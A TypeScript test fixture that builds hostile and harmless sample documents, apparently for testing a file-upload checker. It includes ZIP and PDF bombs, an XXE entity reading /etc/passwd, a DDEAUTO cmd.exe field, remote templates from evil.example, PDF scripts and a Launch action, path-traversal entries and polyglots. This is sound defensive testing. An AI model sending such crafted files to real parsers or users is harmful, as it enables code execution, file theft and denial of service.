import { deflateSync } from 'node:zlib'
import * as sample from './sample-files.ts'
import { aPage, packed, pdfOf, zip } from './sample-files.ts'

// Hostile files of each class, and similar harmless files, made when a test runs, so that none is in the repository.

export type Hostile = readonly [what: string, bytes: Buffer | (() => Buffer), name: string, refusal: string]
export type Harmless = readonly [what: string, bytes: Buffer | (() => Buffer), name: string]

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const types = (more = '') => `<Types><Override PartName="/word/document.xml" ContentType="${word}"/>${more}</Types>`
const docx = (more: Record<string, string | Buffer>, typesMore = ''): Buffer =>
  zip({
    '[Content_Types].xml': types(typesMore),
    'word/document.xml': '<document>Our welcome policy</document>',
    ...more,
  })
const relationship = (type: string, target: string) =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
const ole = (stream: string) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(500),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(500),
  ])
const odt = (more: Record<string, string>) =>
  zip({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'META-INF/manifest.xml': '<manifest/>',
    'content.xml': '<office/>',
    ...more,
  })

/** A document whose directory and local header give a wrong size for the last entry. */
function lying(about: 'smaller' | 'larger'): Buffer {
  const bytes = docx({ 'word/media/image1.bin': 'a'.repeat(5_000_000) })
  const [entry, line] = [
    bytes.lastIndexOf('PK\x03\x04', undefined, 'latin1'),
    bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1'),
  ]
  const size = about === 'smaller' ? 50 : 6_000_000
  bytes.writeUInt32LE(size, entry + 22)
  bytes.writeUInt32LE(size, line + 24)
  return bytes
}

/** A document in which two entries of the directory refer to the same bytes. */
function overlapping(): Buffer {
  const bytes = docx({ 'word/a.bin': 'a'.repeat(1_000), 'word/b.bin': 'a'.repeat(1_000) })
  const last = bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1')
  const before = bytes.lastIndexOf('PK\x01\x02', last - 1, 'latin1')
  bytes.writeUInt32LE(bytes.readUInt32LE(before + 42), last + 42)
  return bytes
}

/** A document whose directory and local header give different names. */
function twoNames(): Buffer {
  const bytes = docx({ 'word/vbaProject.bin': 'macro' })
  bytes.write('word/harmless_.bin', bytes.lastIndexOf('word/vbaProject.bin'))
  return bytes
}

function symbolicLink(): Buffer {
  const bytes = docx({ 'word/media/a.xml': '/etc/passwd' })
  bytes.writeUInt32LE(0o120777 * 0x10000, bytes.lastIndexOf('PK\x01\x02', undefined, 'latin1') + 38)
  return bytes
}

/** A document with this number of megabytes of zeros, which compress to a thousandth of their size. */
const bomb = (megabytes: number) => docx({ 'word/media/image1.bin': Buffer.alloc(megabytes * 1024 * 1024) })

const pages = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', aPage(4), packed('', '0 0 10 10 re f')] as const
const pdf = (catalogue: string, more: readonly (string | Buffer)[] = []) =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`, ...pages, ...more])
/** An object stream that contains object 6. */
const objectStream = (object: string, about = '') => packed(`/Type /ObjStm /N 1 /First 4 ${about}`, `6 0 ${object}`)
const ascii85 = (bytes: Buffer): string => {
  let text = ''
  for (let at = 0; at < bytes.length; at += 4) {
    let value = Buffer.concat([bytes.subarray(at, at + 4), Buffer.alloc(4)]).readUInt32BE(0)
    const characters = Array.from({ length: 5 }, () => {
      const character = String.fromCharCode(33 + (value % 85))
      value = Math.floor(value / 85)
      return character
    })
      .reverse()
      .join('')
    text += characters.slice(0, Math.min(4, bytes.length - at) + 1)
  }
  return `${text}~>`
}
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const inTwoFilters = (): Buffer =>
  Buffer.from(
    '<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode] >>\nstream\n' +
      `${ascii85(deflateSync(`6 0 ${script}`))}\nendstream`,
  )

export const hostile: readonly Hostile[] = [
  [
    'an SVG behind a long comment',
    Buffer.from(`<!-- ${'x'.repeat(40_000)} --><svg xmlns="http://www.w3.org/2000/svg"/>`),
    'drawing.txt',
    'svg',
  ],
  ['a web page named as a CSV', sample.html, 'visits.csv', 'html'],
  [
    'a saved web page with a drawing in it',
    Buffer.from('<!DOCTYPE html>\n<html><body><svg viewBox="0 0 9 9"></svg>Welcome</body></html>'),
    'welcome.html',
    'html',
  ],
  [
    'a RAR named as a photograph',
    Buffer.from('Rar!\x1a\x07\x01\x00'.padEnd(200, '\0'), 'latin1'),
    'photo.jpg',
    'archive',
  ],
  ['a 7z', Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(100)]), 'photos.7z', 'archive'],
  ['a GZ', Buffer.concat([Buffer.from('1f8b0800', 'hex'), Buffer.alloc(100)]), 'visits.csv.gz', 'archive'],
  ['a program named as a document', sample.program, 'policy.docx', 'executable'],
  ['a Windows script', Buffer.from('MsgBox "hello"'), 'list.vbs', 'disagrees'],

  [
    'a DOCM',
    zip({
      '[Content_Types].xml': types().replace(word, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'word/document.xml': '<d/>',
    }),
    'policy.docm',
    'macro',
  ],
  [
    'a DOCM named as a DOCX',
    zip({
      '[Content_Types].xml': types().replace(word, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'word/document.xml': '<d/>',
    }),
    'policy.docx',
    'macro',
  ],
  [
    'a document with macros under another name',
    docx({ 'word/media/image1.bin': ole('_VBA_PROJECT') }),
    'policy.docx',
    'macro',
  ],
  [
    'a document with macros that only a relationship reveals',
    docx({ 'word/_rels/document.xml.rels': relationship('vbaProject', 'media/a.bin') }),
    'policy.docx',
    'macro',
  ],
  ['a document with macros whose ZIP entry has two names', twoNames, 'policy.docx', 'disagrees'],
  [
    'a document with macros in an embedded document',
    docx({ 'word/embeddings/a.docx': docx({ 'word/vbaProject.bin': 'macro' }) }),
    'policy.docx',
    'macro',
  ],
  [
    'a document with a field that starts a program',
    docx({ 'word/footer.xml': '<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>' }),
    'policy.docx',
    'macro',
  ],
  [
    'an ODT that runs a macro when it opens',
    odt({ 'settings.xml': '<script:event-listener xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>' }),
    'policy.odt',
    'macro',
  ],
  [
    'a document with an embedded program',
    docx({ 'word/embeddings/oleObject1.bin': sample.program }),
    'policy.docx',
    'embedded',
  ],
  [
    'a document with a file that Office embedded',
    docx({ 'word/embeddings/oleObject1.bin': ole('\x01Ole10Native') }),
    'policy.docx',
    'embedded',
  ],
  [
    'a document with an embedded archive',
    docx({ 'word/media/image1.png': zip({ 'a.exe': 'x' }) }),
    'policy.docx',
    'archive',
  ],
  [
    'a document inside a document inside a document',
    docx({ 'word/embeddings/a.docx': docx({ 'word/embeddings/b.docx': docx({}) }) }),
    'policy.docx',
    'embedded',
  ],
  [
    'a document with a template from the internet',
    docx({ 'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'https://evil.example/a.dotm') }),
    'policy.docx',
    'elsewhere',
  ],
  [
    'a document with an object from the internet',
    docx({
      'word/_rels/document.xml.rels': relationship(
        'oleObject',
        'mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html',
      ),
    }),
    'policy.docx',
    'elsewhere',
  ],

  [
    'a document with XML entities that expand exponentially',
    docx({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>' }),
    'policy.docx',
    'bomb',
  ],
  [
    'a document with an XML entity that reads a file',
    docx({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' }),
    'policy.docx',
    'bomb',
  ],
  ['a ZIP bomb', () => bomb(150), 'policy.docx', 'bomb'],
  ['a ZIP whose directory gives a size that is too small', () => lying('smaller'), 'policy.docx', 'bomb'],
  ['a ZIP whose directory gives a size that is too large', () => lying('larger'), 'policy.docx', 'damaged'],
  ['a document with overlapping ZIP entries', overlapping, 'policy.docx', 'bomb'],
  ['a document with a path that leaves the folder', docx({ '../../outside.xml': '<a/>' }), 'policy.docx', 'damaged'],
  ['a document with a path that has a drive letter', docx({ 'C:\\outside.xml': '<a/>' }), 'policy.docx', 'damaged'],
  ['a document with a symbolic link', symbolicLink, 'policy.docx', 'damaged'],
  [
    'a ZIP with content after its end',
    Buffer.concat([docx({}), Buffer.from('<script>1</script>')]),
    'policy.docx',
    'disagrees',
  ],

  [
    'a PDF with a script in a compressed object stream',
    pdf('/OpenAction 6 0 R', [objectStream(script)]),
    'policy.pdf',
    'script',
  ],
  [
    'a PDF with a compressed script whose name is escaped',
    pdf('/OpenAction 6 0 R', [objectStream('<< /S /J#61vaScript /#4aS (app.alert(1)) >>')]),
    'policy.pdf',
    'script',
  ],
  [
    'a PDF with a compressed script in a stream of unknown type',
    pdf(
      '/OpenAction 6 0 R',
      [objectStream(script).toString('latin1').replace('/Type /ObjStm', '/Type 9 0 R    ')].map(text =>
        Buffer.from(text, 'latin1'),
      ),
    ),
    'policy.pdf',
    'script',
  ],
  ['a PDF with a script behind two filters', pdf('/OpenAction 6 0 R', [inTwoFilters()]), 'policy.pdf', 'script'],
  [
    'a PDF with a script after a comment',
    pdf('/OpenAction << /S % here\n /JavaScript /JS (1) >>'),
    'policy.pdf',
    'script',
  ],
  [
    'a PDF whose script type is in another object',
    pdf('/OpenAction << /S 5 0 R /J 1 >>', ['/JavaScript']),
    'policy.pdf',
    'script',
  ],
  [
    'a PDF with an annotation that starts a script',
    pdf('', ['<< /Type /Annot /A << /Type /Action /S/JavaScript/JS 4 0 R >> >>']),
    'policy.pdf',
    'script',
  ],
  [
    'a PDF that starts a program from a compressed object',
    pdf('/OpenAction 6 0 R', [objectStream('<< /S /Launch /F (cmd.exe) >>')]),
    'policy.pdf',
    'script',
  ],
  [
    'a PDF form that runs scripts',
    pdf('/AcroForm << /XFA 5 0 R /Fields [] >>', [packed('', '<xdp:xdp/>')]),
    'form.pdf',
    'script',
  ],
  [
    'a PDF with an object stream whose filter the check cannot read',
    pdf('', [Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream')]),
    'policy.pdf',
    'opaque',
  ],
  ['a PDF bomb', () => pdf('', [packed('', Buffer.alloc(150 * 1024 * 1024))]), 'policy.pdf', 'bomb'],
  [
    'a PDF without pages',
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']),
    'policy.pdf',
    'damaged',
  ],
  [
    'a PDF whose page tree is a cycle',
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    'policy.pdf',
    'damaged',
  ],
  ['a text file that only begins like a PDF', Buffer.from('%PDF-1.7\nHello\n%%EOF'), 'policy.pdf', 'damaged'],

  ['a PDF that is also a ZIP', Buffer.concat([pdf(''), sample.archive]), 'policy.pdf', 'disagrees'],
  ['a recording that is also a ZIP', Buffer.concat([sample.mp3, sample.archive]), 'story.mp3', 'disagrees'],
  ['a film that is also a PDF', Buffer.concat([sample.mp4, sample.pdf]), 'tour.mp4', 'disagrees'],
  [
    'a text file that is also a PDF',
    Buffer.concat([Buffer.from('Hello\n'), Buffer.from(sample.pdf.toString('latin1').replace(/[^\x20-\x7e\n]/g, ' '))]),
    'notes.txt',
    'disagrees',
  ],
  ['a HEIC named as a JPEG', sample.heic, 'photo.jpg', 'heic'],
]

export const harmless: readonly Harmless[] = [
  [
    'a document with a link to the internet',
    docx({ 'word/_rels/document.xml.rels': relationship('hyperlink', 'https://library.example/') }),
    'policy.docx',
  ],
  [
    "a document with the council's own template",
    docx({
      'word/_rels/settings.xml.rels': relationship('attachedTemplate', 'file:///S:\\templates\\Council.dotx'),
    }),
    'policy.docx',
  ],
  [
    'a document with a chart and its table',
    docx({ 'word/embeddings/Microsoft_Excel_Sheet.xlsx': sample.xlsx }),
    'figures.docx',
  ],
  ['a document with an old equation', docx({ 'word/embeddings/oleObject1.bin': ole('Equation Native') }), 'maths.docx'],
  [
    'a document whose text mentions macros',
    docx({ 'word/footer.xml': '<w:t>Never enable a vbaProject or DDEAUTO</w:t>' }),
    'advice.docx',
  ],
  [
    'a document with an image of 60 MB of zeros',
    () => docx({ 'word/media/image1.bin': Buffer.alloc(60 * 1024 * 1024) }),
    'poster.docx',
  ],
  [
    'an ODT from an old program, with a document type declaration',
    odt({
      'META-INF/other.xml':
        '<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>',
    }),
    'policy.odt',
  ],
  ['a PDF with compressed objects', pdf('', [objectStream('<< /Title (How we welcome people) >>')]), 'policy.pdf'],
  [
    'a PDF with a link',
    pdf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://library.example) >> >>']),
    'policy.pdf',
  ],
  [
    'a PDF that mentions scripts in compressed text',
    pdf('', [packed('', 'BT (Turn off /JavaScript and /Launch in your reader) Tj ET')]),
    'advice.pdf',
  ],
  ['a PDF form', pdf('/AcroForm << /Fields [] >>'), 'form.pdf'],
  ['a PDF that only mentions attachments', pdf('/Lang (The EmbeddedFiles are gone)'), 'policy.pdf'],
  ['a PDF with a line after its end', Buffer.concat([pdf(''), Buffer.from('\r\n\r\n')]), 'policy.pdf'],
  ['a text file that mentions PDF', Buffer.from('A PDF begins with %PDF- and a number.'), 'notes.txt'],
]
